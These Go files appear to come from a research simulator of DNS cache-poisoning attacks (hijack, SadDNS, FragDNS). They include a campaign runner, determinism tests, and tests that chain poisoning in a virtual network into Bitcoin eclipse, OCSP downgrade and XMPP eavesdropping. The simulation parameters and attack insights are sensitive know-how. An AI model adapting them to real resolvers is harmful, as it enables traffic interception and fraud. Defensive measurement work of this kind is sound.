		t.Fatalf("depth-0-only table has %d rows", len(tbl.Rows))
	}
	if strings.Contains(tbl.String(), "depth 1") {
		t.Fatalf("phantom chain column:\n%s", tbl)
	}
}

// TestLatticeRankOneDegeneratesToScalarSummary: at lattice rank 1 the
// lattice's Sets table carries exactly the information of the scalar
// method × defense Summary (transposed), and the marginal table only
// measures each defense against the undefended baseline.
func TestLatticeRankOneDegeneratesToScalarSummary(t *testing.T) {
	res, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 9},
		Filter: campaign.Filter{Methods: []string{"hijack"}, Victims: []string{"web"},
			Profiles: []string{"bind"}, ChainDepths: []string{"0"}, Placements: []string{"stub"}},
		Trials:      1,
		LatticeRank: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	lat := campaign.Lattice(res)
	summary := campaign.Summary(res)
	// Summary: one row per method, one column per scalar defense.
	// Lattice sets: one row per scalar defense, one column per method.
	if len(lat.Sets.Rows) != len(summary.Header)-1 {
		t.Fatalf("lattice has %d set rows, summary %d defense columns",
			len(lat.Sets.Rows), len(summary.Header)-1)
	}
	for i, row := range lat.Sets.Rows {
		set, rank, rate := row[0], row[1], row[2]
		if set != summary.Header[i+1] {
			t.Errorf("set row %d is %q, summary column is %q", i, set, summary.Header[i+1])
		}
		wantRank := "1"
		if set == "none" {
			wantRank = "0"
		}
		if rank != wantRank {
			t.Errorf("set %q rank %s, want %s", set, rank, wantRank)
		}
		if rate != summary.Rows[0][i+1] {
			t.Errorf("set %q rate %s, summary cell %s", set, rate, summary.Rows[0][i+1])
		}
	}
	for _, row := range lat.Marginal.Rows {
		if row[1] != "none" {
			t.Errorf("rank-1 marginal row %v not against the baseline", row)
		}
	}
	if len(lat.Marginal.Rows) != 4 {
		t.Fatalf("%d marginal rows, want 4 (one per base defense)", len(lat.Marginal.Rows))
	}
}
