package campaign_test

import (
	"strings"
	"testing"

	"crosslayer/internal/campaign"
	"crosslayer/internal/measure"
)

// TestRenderEmptyResults: every renderer must survive a sweep that
// produced no cells (e.g. a future conditional filter) — headers only,
// no panic, no stray rows.
func TestRenderEmptyResults(t *testing.T) {
	if got := campaign.Matrix(nil).Sections[0]; len(got.Rows) != 0 || got.Text() == "" {
		t.Fatalf("empty matrix: %d rows\n%s", len(got.Rows), got.Text())
	}
	if got := campaign.Summary(nil).Sections[0]; len(got.Rows) != 0 || got.Text() == "" {
		t.Fatalf("empty summary: %d rows\n%s", len(got.Rows), got.Text())
	}
	if got := campaign.DepthTable(nil).Sections[0]; len(got.Rows) != 0 || got.Text() == "" {
		t.Fatalf("empty depth table: %d rows\n%s", len(got.Rows), got.Text())
	}
	lat := campaign.Lattice(nil)
	sets, marginal := lat.Section("lattice-sets"), lat.Section("lattice-marginal")
	if len(sets.Rows) != 0 || len(marginal.Rows) != 0 || lat.String() == "" {
		t.Fatalf("empty lattice: %d set rows, %d marginal rows", len(sets.Rows), len(marginal.Rows))
	}
}

// TestRenderSingleCell: a one-cell sweep renders a one-row matrix and
// one-row aggregates.
func TestRenderSingleCell(t *testing.T) {
	res, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 5},
		Filter: campaign.Filter{Methods: []string{"hijack"}, Victims: []string{"web"},
			Profiles: []string{"bind"}, DefenseSets: []string{"none"},
			ChainDepths: []string{"0"}, Placements: []string{"stub"},
			Transports: []string{"udp"}},
		Trials: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(res) != 1 {
		t.Fatalf("%d cells, want 1", len(res))
	}
	if got := campaign.Matrix(res).Sections[0]; len(got.Rows) != 1 {
		t.Fatalf("single-cell matrix has %d rows", len(got.Rows))
	}
	if got := campaign.Summary(res).Sections[0]; len(got.Rows) != 1 || len(got.Columns) != 2 {
		t.Fatalf("single-cell summary %d rows × %d cols", len(got.Rows), len(got.Columns))
	}
	lat := campaign.Lattice(res)
	if sets := lat.Section("lattice-sets"); len(sets.Rows) != 1 {
		t.Fatalf("single-cell lattice has %d set rows", len(sets.Rows))
	}
	// One baseline cell: nothing to take a marginal against.
	if marginal := lat.Section("lattice-marginal"); len(marginal.Rows) != 0 {
		t.Fatalf("single-cell lattice has %d marginal rows", len(marginal.Rows))
	}
}

// TestDepthTableWithoutChainCells: a depth-0-only sweep renders a
// depth table with exactly the one depth column — no phantom chain
// columns.
func TestDepthTableWithoutChainCells(t *testing.T) {
	res, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 6},
		Filter: campaign.Filter{Methods: []string{"hijack"}, Victims: []string{"web"},
			Profiles: []string{"bind"}, DefenseSets: []string{"none"},
			ChainDepths: []string{"0"}, Transports: []string{"udp"}},
		Trials: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	tbl := campaign.DepthTable(res).Sections[0]
	if want := []string{"Method", "Placement", "depth 0"}; len(tbl.Columns) != len(want) {
		t.Fatalf("depth-0-only header %v, want %v", tbl.HeaderNames(), want)
	}
	if len(tbl.Rows) != 2 { // hijack × {stub, carrier}
		t.Fatalf("depth-0-only table has %d rows", len(tbl.Rows))
	}
	if strings.Contains(tbl.Text(), "depth 1") {
		t.Fatalf("phantom chain column:\n%s", tbl.Text())
	}
}

// TestLatticeRankOneDegeneratesToScalarSummary: at lattice rank 1 the
// lattice's Sets table carries exactly the information of the scalar
// method × defense Summary (transposed), and the marginal table only
// measures each defense against the undefended baseline.
func TestLatticeRankOneDegeneratesToScalarSummary(t *testing.T) {
	res, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 9},
		Filter: campaign.Filter{Methods: []string{"hijack"}, Victims: []string{"web"},
			Profiles: []string{"bind"}, ChainDepths: []string{"0"}, Placements: []string{"stub"},
			Transports: []string{"udp"}},
		Trials:      1,
		LatticeRank: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	lat := campaign.Lattice(res)
	sets, marginal := lat.Section("lattice-sets"), lat.Section("lattice-marginal")
	summarySec := campaign.Summary(res).Sections[0]
	summaryHeader := summarySec.HeaderNames()
	summaryCells := summarySec.CellStrings()
	// Summary: one row per method, one column per scalar defense.
	// Lattice sets: one row per scalar defense, one column per method.
	if len(sets.Rows) != len(summaryHeader)-1 {
		t.Fatalf("lattice has %d set rows, summary %d defense columns",
			len(sets.Rows), len(summaryHeader)-1)
	}
	for i, row := range sets.CellStrings() {
		set, rank, rate := row[0], row[1], row[2]
		if set != summaryHeader[i+1] {
			t.Errorf("set row %d is %q, summary column is %q", i, set, summaryHeader[i+1])
		}
		wantRank := "1"
		if set == "none" {
			wantRank = "0"
		}
		if rank != wantRank {
			t.Errorf("set %q rank %s, want %s", set, rank, wantRank)
		}
		if rate != summaryCells[0][i+1] {
			t.Errorf("set %q rate %s, summary cell %s", set, rate, summaryCells[0][i+1])
		}
	}
	for _, row := range marginal.Rows {
		if row[1] != "none" {
			t.Errorf("rank-1 marginal row %v not against the baseline", row)
		}
	}
	if len(marginal.Rows) != 4 {
		t.Fatalf("%d marginal rows, want 4 (one per base defense)", len(marginal.Rows))
	}
}
