package campaign

import (
	"reflect"
	"testing"

	"crosslayer/internal/measure"
)

// The differential suite below is the correctness contract of the
// world-prototype lifecycle: build-once/Reset-per-trial must produce
// results byte-identical to the legacy build-a-world-per-trial path,
// across every campaign axis and at any parallelism. forceFreshBuild
// is the internal lever that reruns a sweep on the legacy lifecycle.

// runBoth executes the same sweep on both lifecycles and fails the
// test on any difference in the raw cell results.
func runBoth(t *testing.T, cfg Config) []CellResult {
	t.Helper()
	reset, err := Run(cfg)
	if err != nil {
		t.Fatal(err)
	}
	cfg.forceFreshBuild = true
	fresh, err := Run(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(reset, fresh) {
		for i := range reset {
			if !reflect.DeepEqual(reset[i], fresh[i]) {
				t.Fatalf("reset lifecycle diverges from fresh builds at cell %d:\nreset: %+v\nfresh: %+v",
					i, reset[i], fresh[i])
			}
		}
		t.Fatal("reset lifecycle diverges from fresh builds")
	}
	return reset
}

// TestResetDifferentialAllAxes sweeps every one of the eight axes with
// at least two values (methods, victims, profiles, defense sets, chain
// depths, placements, transports, deployments) using the cheap hijack
// method for the broad product, and checks reset-reuse against fresh
// builds. The deployment axis is the sharpest Reset probe here: a
// sampled dataset overwrites AS egress filtering, resolver defense
// flags and forwarder port spans per trial, so Snapshot/Reset must
// rewind every one of those before the next trial resamples them.
func TestResetDifferentialAllAxes(t *testing.T) {
	runBoth(t, Config{
		Exec: measure.Config{Seed: 31, Parallelism: 2},
		Filter: Filter{
			Methods:     []string{"hijack"},
			Victims:     []string{"web", "ocsp"},
			Profiles:    []string{"bind", "dnsmasq"},
			DefenseSets: []string{"none", "0x20+shuffle"},
			ChainDepths: []string{"0", "1"},
			Placements:  []string{"stub", "carrier"},
			Transports:  []string{"udp", "dot"},
			Deployments: []string{"canonical", "measured"},
		},
		Trials: 2,
	})
}

// TestResetDifferentialMethodsDeep covers the two expensive methods —
// the SadDNS side-channel scan and FragDNS (the heaviest users of
// clock RNG, ICMP buckets, defrag caches and PMTU state) — plus the
// downgrade condition on an opportunistic transport.
func TestResetDifferentialMethodsDeep(t *testing.T) {
	if testing.Short() {
		t.Skip("expensive differential sweep")
	}
	base := Config{
		Exec: measure.Config{Seed: 7, Parallelism: 2},
		Filter: Filter{
			Methods:     []string{"saddns", "frag"},
			Victims:     []string{"web"},
			Profiles:    []string{"bind"},
			DefenseSets: []string{"none"},
			ChainDepths: []string{"0", "1"},
			Placements:  []string{"stub"},
			Transports:  []string{"udp"},
		},
		Trials: 2,
	}
	runBoth(t, base)

	dg := base
	dg.Filter.Methods = []string{"saddns"}
	dg.Filter.ChainDepths = []string{"1"}
	dg.Filter.Transports = []string{"opp"}
	dg.Downgrade = true
	runBoth(t, dg)
}

// TestResetDifferentialAcrossParallelism pins that the reset lifecycle
// is schedule-independent: the same sweep at parallelism 1, 3 and 8
// must reproduce the fresh-build reference exactly. Worker pools and
// memoized prototypes are per-goroutine, so cells landing on different
// workers must not be able to change anything.
func TestResetDifferentialAcrossParallelism(t *testing.T) {
	base := Config{
		Exec: measure.Config{Seed: 19, Parallelism: 1},
		Filter: Filter{
			Methods:     []string{"hijack", "frag"},
			Victims:     []string{"web"},
			Profiles:    []string{"bind", "unbound"},
			DefenseSets: []string{"none", "dnssec"},
			ChainDepths: []string{"0", "2"},
			Placements:  []string{"stub", "carrier"},
			Transports:  []string{"udp"},
		},
		Trials: 3,
	}
	fresh := base
	fresh.forceFreshBuild = true
	ref, err := Run(fresh)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []int{1, 3, 8} {
		cfg := base
		cfg.Exec.Parallelism = p
		res, err := Run(cfg)
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(res, ref) {
			t.Fatalf("reset lifecycle at parallelism %d diverges from fresh-build reference", p)
		}
	}
}
