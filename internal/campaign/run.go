package campaign

import (
	"context"

	"crosslayer/internal/core"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/engine"
	"crosslayer/internal/netsim"
	"crosslayer/internal/pool"
	"crosslayer/internal/resolver"
	"crosslayer/internal/scenario"
	"crosslayer/internal/sim"
	"crosslayer/internal/stats"
)

// CellResult is the measured outcome of one cross-product cell over
// its trials.
type CellResult struct {
	// Method/Victim/Profile/Defense/Depth/Placement/Transport are the
	// cell's registry keys; Defense is the canonical defense-set key
	// ("none", "0x20", "0x20+shuffle", ...).
	Method, Victim, Profile, Defense, Depth, Placement, Transport string
	// Deployment is the deployment-dataset key the cell's worlds were
	// sampled from. Empty (results decoded from a pre-axis
	// checkpoint) means canonical.
	Deployment string `json:",omitempty"`
	// Trials is the per-cell sample size.
	Trials int
	// Poisoned counts trials whose attack actually planted the
	// malicious record (cache ground truth, not the method's own
	// success claim).
	Poisoned stats.Counter
	// Impact counts trials whose application exercise produced the
	// outcome the Table 1 row promises for this victim.
	Impact stats.Counter
	// Iterations/Packets/Seconds are per-trial cost samples: attack
	// rounds, attacker packets sent, and elapsed virtual seconds.
	Iterations *stats.CDF
	Packets    *stats.CDF
	Seconds    *stats.CDF
}

// Run executes the (filtered) cross-product on the experiment engine:
// every cell is one shard, every trial inside a cell builds a private
// scenario from an identity-derived seed. Results come back in cell
// order regardless of scheduling.
func Run(cfg Config) ([]CellResult, error) {
	return RunContext(context.Background(), cfg)
}

// RunContext is Run under a cancellable context: a long sweep aborts
// at the next cell boundary once ctx is cancelled, returning the
// context's error instead of a partial matrix.
func RunContext(ctx context.Context, cfg Config) ([]CellResult, error) {
	cells, err := CellsAtRank(cfg.Filter, cfg.LatticeRank)
	if err != nil {
		return nil, err
	}
	trials := cfg.Trials
	if trials <= 0 {
		trials = DefaultTrials
	}
	if cfg.Exec.SampleCap > 0 && trials > cfg.Exec.SampleCap {
		trials = cfg.Exec.SampleCap
	}
	job := engine.Job{
		Name:        "campaign",
		Items:       len(cells),
		ShardSize:   1,
		Seed:        cfg.Exec.Seed,
		Parallelism: cfg.Exec.Parallelism,
	}
	cfg.Exec.WireProgress(&job, "campaign", len(cells))
	var cache engine.ShardCache[CellResult]
	if cfg.Cache != nil {
		cache = cellShardCache{cells: cells, seed: cfg.Exec.Seed, trials: trials,
			downgrade: cfg.Downgrade, cache: cfg.Cache}
	}
	newState := newTrialWorker
	if cfg.Arenas != nil {
		lease := cfg.Arenas.beginRun()
		defer lease.endRun()
		newState = lease.get
	}
	return engine.RunWorkersCachedCtx(ctx, job, cache, newState, func(w *trialWorker, sh engine.Shard) CellResult {
		// One shard == one cell (ShardSize 1, so sh.Start indexes the
		// plan). The shard's positional seed is deliberately unused:
		// the cell's trials derive from its identity key instead, so
		// filtering the sweep never reseeds surviving cells.
		return runCell(w, cells[sh.Start], cfg.Exec.Seed, trials, cfg.Downgrade, cfg.forceFreshBuild)
	})
}

// cellShardCache adapts a CellCache to the engine's shard-dispatch
// hook: shard i is cell i (ShardSize 1), addressed by its CellKey.
type cellShardCache struct {
	cells     []Cell
	seed      int64
	trials    int
	downgrade bool
	cache     CellCache
}

// key is the cell's CellKey, plus a "/downgrade" marker when the sweep
// runs under active downgrade pressure: trial seeds are shared between
// the two conditions (paired experiments), measured results are not.
func (a cellShardCache) key(sh engine.Shard) string {
	k := CellKey(a.seed, a.trials, a.cells[sh.Start])
	if a.downgrade {
		k += "/downgrade"
	}
	return k
}

func (a cellShardCache) Lookup(sh engine.Shard) (CellResult, bool) {
	return a.cache.Lookup(a.key(sh))
}

func (a cellShardCache) Store(sh engine.Shard, r CellResult) {
	a.cache.Store(a.key(sh), r)
}

// trialWorker is the scratch one campaign worker reuses across every
// cell it runs: the wire-buffer arena its trials' networks recycle
// payloads through, the clock-event and delivery-node freelists those
// simulations run on, the memoized scenario build artifacts
// (scenario.Proto), and the per-cell cost-sample slices. Warmed
// capacity carries across cells; recorded results never alias it
// (stats.NewCDF copies its samples), so reuse cannot change output.
type trialWorker struct {
	wire   pool.Wire
	events sim.EventPool
	deliv  netsim.DeliveryPool
	proto  scenario.Proto
	iters  []float64
	pkts   []float64
	secs   []float64
}

func newTrialWorker() *trialWorker { return &trialWorker{} }

// Reset rewinds the sample slices for the next cell, keeping their
// capacity. The wire arena, freelists and memoized prototypes
// deliberately survive Reset: they carry no state between trials, only
// capacity and immutable (or baseline-restored) build artifacts.
func (w *trialWorker) Reset(engine.Shard) {
	w.iters = w.iters[:0]
	w.pkts = w.pkts[:0]
	w.secs = w.secs[:0]
}

// cellConfig assembles the cell's scenario configuration — everything
// but the seed: transports stamped (chain copied once per cell, not
// per trial), placement, the worker's shared pools, the method's
// Prepare overrides, and the defense stack.
func (w *trialWorker) cellConfig(c Cell) scenario.Config {
	scfg := baseScenarioConfig(0, c.Profile.Profile)
	scfg.Profile.Transport = c.Transport.Resolver
	scfg.Profile.Opportunistic = c.Transport.Opportunistic
	scfg.ForwarderChain = c.Depth.Chain
	if len(c.Depth.Chain) > 0 && (c.Transport.Forwarder != resolver.TransportUDP || c.Transport.Opportunistic) {
		// The registry's chain specs are shared across cells; copy
		// before stamping this cell's per-hop transport onto them.
		chain := make([]scenario.ForwarderSpec, len(c.Depth.Chain))
		copy(chain, c.Depth.Chain)
		for i := range chain {
			chain[i].Transport = c.Transport.Forwarder
			chain[i].Opportunistic = c.Transport.Opportunistic
		}
		scfg.ForwarderChain = chain
	}
	scfg.Placement = c.Placement.Placement
	scfg.Deployment = c.Deployment.Dataset
	scfg.WirePool = &w.wire
	scfg.EventPool = &w.events
	scfg.DeliveryPool = &w.deliv
	c.Method.Prepare(&scfg)
	scfg.Defenses = c.Defenses.Specs
	return scfg
}

// runCell executes the cell's trials and folds them into a CellResult.
// The default lifecycle builds the cell's world ONCE as a prototype
// (config, defenses and chain stamping applied once instead of trials
// times), runs trial 0 on the fresh build, and rewinds the world with
// scenario.S.Reset between trials. Building with trial 0's own seed —
// rather than Resetting before every trial — matters for 1-trial
// sweeps: reseeding every host RNG is most of a Reset's cost (the
// lagged-Fibonacci init math/rand pays per source), and the fresh
// build already paid it. fresh forces the legacy build-per-trial
// lifecycle; the differential suite uses it to prove both lifecycles
// produce byte-identical results.
func runCell(w *trialWorker, c Cell, baseSeed int64, trials int, downgrade, fresh bool) CellResult {
	res := CellResult{
		Method: c.Method.Key, Victim: c.Victim.Key,
		Profile: c.Profile.Key, Defense: c.Defenses.Key,
		Depth: c.Depth.Key, Placement: c.Placement.Key,
		Transport: c.Transport.Key, Deployment: c.Deployment.Key,
		Trials: trials,
	}
	cellSeed := engine.DeriveSeedKey(baseSeed, c.Key())
	var s *scenario.S
	if !fresh {
		scfg := w.cellConfig(c)
		// Cross-cell memoization only joins the reset lifecycle: the
		// memoized RIB relies on New/Reset restoring its baseline.
		scfg.Proto = &w.proto
		scfg.Seed = engine.DeriveSeed(cellSeed, 0)
		s = scenario.New(scfg)
		s.Snapshot() // post-New, pre-attack: the state Reset rewinds to
	}
	for t := 0; t < trials; t++ {
		seed := engine.DeriveSeed(cellSeed, t)
		var poisoned, impact bool
		var r core.Result
		if fresh {
			scfg := w.cellConfig(c)
			scfg.Seed = seed
			poisoned, impact, r = runTrial(scenario.New(scfg), c, downgrade)
		} else {
			if t > 0 {
				s.Reset(seed)
			}
			poisoned, impact, r = runTrial(s, c, downgrade)
		}
		res.Poisoned.Observe(poisoned)
		res.Impact.Observe(impact)
		w.iters = append(w.iters, float64(r.Iterations))
		w.pkts = append(w.pkts, float64(r.AttackerPackets))
		w.secs = append(w.secs, r.Duration.Seconds())
	}
	res.Iterations = stats.NewCDF(w.iters)
	res.Packets = stats.NewCDF(w.pkts)
	res.Seconds = stats.NewCDF(w.secs)
	return res
}

// runTrial plays one trial end to end on an assembled (fresh or
// freshly Reset) world: deploy the victim, run the attack against the
// victim's query name (triggered through the cell's forwarder chain),
// read the chain's cache ground truth, then exercise the application.
// The cell's defense stack rode scenario.Config.Defenses at build
// time, after the method's Prepare — defenses always get the last
// word.
func runTrial(s *scenario.S, c Cell, downgrade bool) (poisoned, impact bool, r core.Result) {
	exercise := c.Victim.Deploy(s)
	var atk core.Attack
	if downgrade {
		// Target selection must happen AFTER the downgrade lands, so
		// the inner attack is built lazily inside core.Downgrade.
		atk = &core.Downgrade{Attacker: s.Attacker, Hops: chainHops(s),
			Build: func() core.Attack { return c.Method.New(s, c.Victim.QName) }}
	} else {
		atk = c.Method.New(s, c.Victim.QName)
	}
	r = atk.Run(core.TriggerDirect(s.ClientHost, s.DNSAddr(), c.Victim.QName, dnswire.TypeA))
	poisoned = s.ChainPoisoned(c.Victim.QName, dnswire.TypeA)
	impact = exercise() == c.Victim.AttackOutcome
	return poisoned, impact, r
}
