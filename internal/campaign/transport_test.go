package campaign_test

import (
	"reflect"
	"testing"

	"crosslayer/internal/campaign"
	"crosslayer/internal/measure"
)

// TestCampaignTransportStory pins the headline invariant the transport
// axis exists for: the off-path methods collapse to zero against an
// all-encrypted chain — SadDNS has no 16-bit UDP port to scan and
// FragDNS no datagram to fragment on a stream — and SadDNS re-opens
// the moment a plaintext forwarder hop sits in front of the encrypted
// recursive, because the attack retargets the weakest hop. Hijack
// flips from poisoning to a fail-closed DoS: the intercepted handshake
// cannot be completed, so the resolver SERVFAILs instead of accepting
// the forged answer.
func TestCampaignTransportStory(t *testing.T) {
	res, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 9},
		Filter: campaign.Filter{
			Methods: []string{"hijack", "saddns", "frag"}, Victims: []string{"web"},
			Profiles: []string{"bind"}, Defenses: []string{"none"},
			ChainDepths: []string{"1"}, Placements: []string{"stub"},
			Transports: []string{"udp", "dot", "doh", "doq", "mixed"},
		},
		Trials: 2,
	})
	if err != nil {
		t.Fatal(err)
	}
	rate := map[string]float64{}
	for _, r := range res {
		rate[r.Method+"/"+r.Transport] = r.Poisoned.Frac()
	}
	for _, m := range []string{"hijack", "saddns", "frag"} {
		if rate[m+"/udp"] == 0 {
			t.Errorf("%s must poison the undefended plaintext chain", m)
		}
		for _, tr := range []string{"dot", "doh", "doq"} {
			if got := rate[m+"/"+tr]; got > 0 {
				t.Errorf("%s/%s: off-path surface must vanish on an encrypted chain, rate %.0f%%", m, tr, got*100)
			}
		}
	}
	// A plaintext front hop re-opens the port side channel: the
	// forwarder still queries the recursive over bare UDP.
	if rate["saddns/mixed"] == 0 {
		t.Error("saddns must re-open at a plaintext forwarder hop in front of an encrypted recursive")
	}
	// ... but not the fragmentation surface: the hop that fragments
	// (resolver → nameserver) is still a stream.
	if got := rate["frag/mixed"]; got > 0 {
		t.Errorf("frag must stay closed on mixed — the fragmenting hop is encrypted, rate %.0f%%", got*100)
	}
}

// TestCampaignDowngradeStory pins the opportunistic-encryption model:
// an opportunistic DoT chain is exactly as strong as a strict one
// until an active attacker blocks the handshakes — then every hop
// falls back to plaintext UDP and the off-path surface returns. The
// paired sweep shares trial seeds, so cells without an opportunistic
// hop are bit-identical with and without downgrade pressure.
func TestCampaignDowngradeStory(t *testing.T) {
	cfg := campaign.Config{
		Exec: measure.Config{Seed: 13},
		Filter: campaign.Filter{
			Methods: []string{"saddns", "frag"}, Victims: []string{"web"},
			Profiles: []string{"bind"}, Defenses: []string{"none"},
			ChainDepths: []string{"1"}, Placements: []string{"stub"},
			Transports: []string{"udp", "opp"},
		},
		Trials: 2,
	}
	quiet, err := campaign.Run(cfg)
	if err != nil {
		t.Fatal(err)
	}
	down := cfg
	down.Downgrade = true
	forced, err := campaign.Run(down)
	if err != nil {
		t.Fatal(err)
	}
	qRate, fRate := map[string]float64{}, map[string]float64{}
	for _, r := range quiet {
		qRate[r.Method+"/"+r.Transport] = r.Poisoned.Frac()
	}
	for _, r := range forced {
		fRate[r.Method+"/"+r.Transport] = r.Poisoned.Frac()
	}
	for _, m := range []string{"saddns", "frag"} {
		if got := qRate[m+"/opp"]; got > 0 {
			t.Errorf("%s/opp without an active attacker must hold like strict DoT, rate %.0f%%", m, got*100)
		}
		if fRate[m+"/opp"] == 0 {
			t.Errorf("%s/opp must re-open under active downgrade", m)
		}
	}
	// Cells with no opportunistic hop are untouched by the downgrade
	// sweep: same seeds, same physics, same bits.
	pick := func(res []campaign.CellResult, transport string) []campaign.CellResult {
		var out []campaign.CellResult
		for _, r := range res {
			if r.Transport == transport {
				out = append(out, r)
			}
		}
		return out
	}
	if !reflect.DeepEqual(pick(quiet, "udp"), pick(forced, "udp")) {
		t.Error("downgrade pressure changed cells without an opportunistic hop")
	}
}

// TestCampaignTransportByteIdenticalAcrossParallelism is the 7th-axis
// acceptance contract: a sweep over every transport renders
// byte-identical matrices — and transport tables — for any worker
// count.
func TestCampaignTransportByteIdenticalAcrossParallelism(t *testing.T) {
	base := campaign.Config{
		Exec: measure.Config{Seed: 23, Parallelism: 1},
		Filter: campaign.Filter{Methods: []string{"hijack"}, Victims: []string{"web"},
			Profiles: []string{"bind"}, Defenses: []string{"none"},
			ChainDepths: []string{"1"}, Placements: []string{"stub"}},
		Trials: 2,
	}
	refRes, err := campaign.Run(base)
	if err != nil {
		t.Fatal(err)
	}
	if len(refRes) != len(campaign.Transports()) {
		t.Fatalf("unexpected cell count %d, want one per transport (%d)", len(refRes), len(campaign.Transports()))
	}
	refMatrix := campaign.Matrix(refRes).String()
	refTransport := campaign.TransportTable(refRes).String()
	for _, p := range []int{3, 8} {
		cfg := base
		cfg.Exec.Parallelism = p
		res, err := campaign.Run(cfg)
		if err != nil {
			t.Fatal(err)
		}
		if got := campaign.Matrix(res).String(); got != refMatrix {
			t.Fatalf("parallelism %d changed transport matrix bytes:\n--- p=1\n%s\n--- p=%d\n%s", p, refMatrix, p, got)
		}
		if got := campaign.TransportTable(res).String(); got != refTransport {
			t.Fatalf("parallelism %d changed transport table bytes", p)
		}
	}
}

// TestCampaignEncryptedCostStory pins the cost side of the trade: the
// handshake round-trips of an encrypted upstream are visible in the
// virtual attack-time percentiles. A hijack trial against a DoT chain
// spends measurably more simulated time than against bare UDP — the
// TLS setup happens inside the measured window even though the attack
// then fails closed.
func TestCampaignEncryptedCostStory(t *testing.T) {
	res, err := campaign.Run(campaign.Config{
		Exec: measure.Config{Seed: 17},
		Filter: campaign.Filter{Methods: []string{"hijack"}, Victims: []string{"web"},
			Profiles: []string{"bind"}, Defenses: []string{"none"},
			ChainDepths: []string{"0"}, Placements: []string{"stub"},
			Transports: []string{"udp", "dot"}},
		Trials: 2,
	})
	if err != nil {
		t.Fatal(err)
	}
	sec := map[string]float64{}
	for _, r := range res {
		sec[r.Transport] = r.Seconds.Quantile(0.5)
	}
	if sec["dot"] <= sec["udp"] {
		t.Errorf("DoT handshake round-trips must cost virtual time: dot p50 %.6fs <= udp p50 %.6fs",
			sec["dot"], sec["udp"])
	}
}
