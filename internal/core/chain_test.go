package core_test

// Full cross-layer chains: a §3 methodology plants the record, a
// Table 1 application consumes it, and the paper's impact class is
// observed — methodology and exploitation composed end to end, with
// no cache pre-seeding anywhere.

import (
	"net/netip"
	"testing"

	"crosslayer/internal/apps"
	"crosslayer/internal/core"
	"crosslayer/internal/dnssrv"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/resolver"
	"crosslayer/internal/scenario"
)

func TestChainHijackDNSToBitcoinEclipse(t *testing.T) {
	s := scenario.New(scenario.Config{Seed: 81})
	apps.NewBitcoinNode(s.WWWHost, "tip-genuine")
	apps.NewBitcoinNode(s.Attacker, "tip-fake")
	atk := &core.HijackDNS{
		Attacker:     s.Attacker,
		HijackPrefix: netip.MustParsePrefix("123.0.0.0/24"),
		NSAddr:       scenario.NSIP,
		Spoof: core.Spoof{QName: "seed.vict.im.", QType: dnswire.TypeA,
			Records: []*dnswire.RR{dnswire.NewA("seed.vict.im.", 300, scenario.AttackerIP)}},
	}
	// The trigger IS the application: a restarting node bootstrapping
	// from its DNS seed ("waiting" trigger in Table 1).
	bc := &apps.BitcoinClient{Host: s.ClientHost, ResolverAddr: scenario.ResolverIP, SeedName: "seed.vict.im."}
	res := atk.Run(core.TriggerFunc(func() { bc.Bootstrap(func(apps.Outcome) {}) }))
	if !res.Success {
		t.Fatalf("hijack failed: %+v", res)
	}
	if !bc.Eclipsed("tip-fake") {
		t.Fatalf("node adopted %q, want the attacker's chain", bc.AdoptedTip)
	}
}

func TestChainFragDNSToOCSPDowngrade(t *testing.T) {
	cfg := scenario.Config{Seed: 82}
	cfg.ServerCfg = dnssrv.DefaultConfig()
	cfg.ServerCfg.PadAnswersTo = 1200
	s := scenario.New(cfg)
	responder := apps.NewOCSPResponder(s.WWWHost)
	revoked := apps.Identity{Subject: "compromised.vict.im.", Issuer: apps.TrustedCA}
	responder.Revoked["compromised.vict.im."] = true

	atk := &core.FragDNS{
		Attacker: s.Attacker, ResolverAddr: scenario.ResolverIP, NSAddr: scenario.NSIP,
		QName: "ocsp.vict.im.", QType: dnswire.TypeA, SpoofAddr: scenario.AttackerIP,
		ForcedMTU: 68, ResolverEDNS: resolver.ProfileBIND.EDNSSize,
		PredictIPID: true, IPIDGuesses: 64,
		CheckSuccess: func() bool { return s.Poisoned("ocsp.vict.im.", dnswire.TypeA) },
	}
	res := atk.Run(core.TriggerDirect(s.ClientHost, scenario.ResolverIP, "ocsp.vict.im.", dnswire.TypeA))
	if !res.Success {
		t.Fatalf("fragdns failed: %+v", res)
	}
	oc := &apps.OCSPClient{Host: s.ClientHost, ResolverAddr: scenario.ResolverIP, ResponderName: "ocsp.vict.im."}
	var accept bool
	var out apps.Outcome
	oc.CheckRevocation(revoked, func(a bool, o apps.Outcome) { accept, out = a, o })
	s.Run()
	if !accept || out != apps.OutcomeDowngrade {
		t.Fatalf("revocation check should soft-fail after poisoning: accept=%v out=%v", accept, out)
	}
}

func TestChainSadDNSToXMPPEavesdropping(t *testing.T) {
	cfg := scenario.Config{Seed: 83}
	cfg.ServerCfg = dnssrv.DefaultConfig()
	cfg.ServerCfg.RateLimit = true
	cfg.ServerCfg.RateLimitQPS = 10
	s := scenario.New(cfg)
	s.ResolverHost.Cfg.PortMin = 32768
	s.ResolverHost.Cfg.PortMax = 32768 + 399
	apps.NewFederationServer(s.WWWHost, apps.Identity{Subject: "www.vict.im.", Issuer: apps.TrustedCA})
	evil := apps.NewFederationServer(s.Attacker, apps.SelfSigned("www.vict.im."))
	xp := &apps.XMPPServerPeer{Host: s.ServiceHost, ResolverAddr: scenario.ResolverIP}

	// SadDNS poisons the SRV record itself, pointing federation at a
	// host inside the attacker's own zone (whose A record the
	// attacker's genuine nameserver serves); the trigger is the victim
	// server federating to a user@vict.im (attacker-chosen recipient,
	// the "bounce" column of Table 1). Poisoning the chained A lookup
	// instead would not work here: the muted nameserver blocks the SRV
	// step, so the A query never opens a port — exactly the kind of
	// dependency the paper's per-record-type applicability reflects.
	s.AtkNS.Zone("atk.example.").Add(dnswire.NewA("xmpp.atk.example.", 300, scenario.AttackerIP))
